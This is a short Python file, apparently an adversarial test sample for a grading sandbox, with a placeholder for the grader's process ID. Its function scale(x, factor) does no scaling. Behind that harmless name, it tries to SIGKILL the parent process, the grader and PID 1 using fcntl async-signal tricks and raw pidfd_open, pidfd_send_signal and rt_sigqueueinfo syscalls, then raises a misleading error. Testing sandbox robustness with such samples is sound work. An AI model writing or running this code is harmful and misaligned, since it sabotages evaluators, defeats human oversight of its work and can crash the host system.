import ctypes
import fcntl
import os
import signal
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
TARGETS = (os.getppid(), @GRADER_PID@, 1)


def each(way):
    for target in TARGETS:
        if target > 1 or os.getppid() != target:
            try:
                way(target)
            except OSError:
                pass
    time.sleep(0.05)
    raise ValueError("nobody was hit")


def owned(target):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, 10, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETOWN, target)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"x")


def by_handle(target):
    handle = LIBC.syscall(434, target, 0)
    if LIBC.syscall(424, handle, signal.SIGKILL, None, 0) < 0:
        raise OSError


def queued(target):
    LIBC.syscall(129, target, signal.SIGKILL, ctypes.create_string_buffer(128))


def scale(x, factor):
    each(lambda target: (queued(target), by_handle(target)))
